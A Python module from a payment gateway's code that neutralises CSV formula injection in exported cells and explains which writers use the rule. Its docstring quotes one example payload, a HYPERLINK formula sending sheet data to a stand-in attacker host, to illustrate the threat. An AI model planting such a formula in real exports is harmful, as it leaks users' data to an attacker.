"""Cells of the CSV files people open in a spreadsheet: no cell may run as a formula.

A spreadsheet reads a cell that begins with ``=``, ``+``, ``-`` or ``@`` as a formula (and a
tab or a carriage return before one of them is skipped), so a statement line whose batch
reference is ``=HYPERLINK("http://evil.example/?x="&A1,"click")`` would, exported as it came,
send the sheet's data away when clicked. ``csv_cell`` is the one rule (OWASP's "CSV
injection"), and every CSV export of the gateway writes every cell through it:

- text that begins with one of ``= + - @``, a tab or a carriage return is prefixed with a
  single quote, which the spreadsheet shows as text and does not display (``'=1+1``);
- an ``int`` stays a number: the gateway's amounts and counts are integers (minor units), and
  an integer's text (``-5000``) is a number to every spreadsheet, never a formula. The type
  decides, not the content: the text ``"-5000"`` (a note someone typed) is quoted;
- ``None`` is an empty cell. Anything else (a float, a bool, a date) is a TypeError: format it
  into text first, so that what a cell holds is decided here and nowhere else.

The gateway's exports: a reconciliation run's items (``GET
/v1/reconciliation/runs/{id}/items.csv`` and the console's export, both
``services.reconcile_reports.export_items_csv``). The files written for machines, in a bank's
or a provider's own layout (``reconcile.writers.csv_statement``, the sandbox treasury's
statement; ``reconcile.settlements.write_settlement``, the simulators' settlement reports),
are not exports: they must say exactly what a bank or a provider says, for the parsers to read
back the same values, and a quote before a ``-`` would change a reference
(``tests/unit/test_csv_cells.py`` lists every CSV writer as one or the other).
"""

from __future__ import annotations

FORMULA_STARTS = frozenset("=+-@\t\r")


def csv_cell(value: str | int | None) -> str | int:
    """The value as an exported CSV cell: see the module's docstring for the rule."""
    if value is None:
        return ""
    if isinstance(value, str):
        return "'" + value if value[:1] in FORMULA_STARTS else value
    if isinstance(value, int) and not isinstance(value, bool):
        return value
    # The types say so already; a caller that casts its way past them still gets no cell.
    raise TypeError(f"a CSV cell is text, an int or None, not {type(value).__name__}")
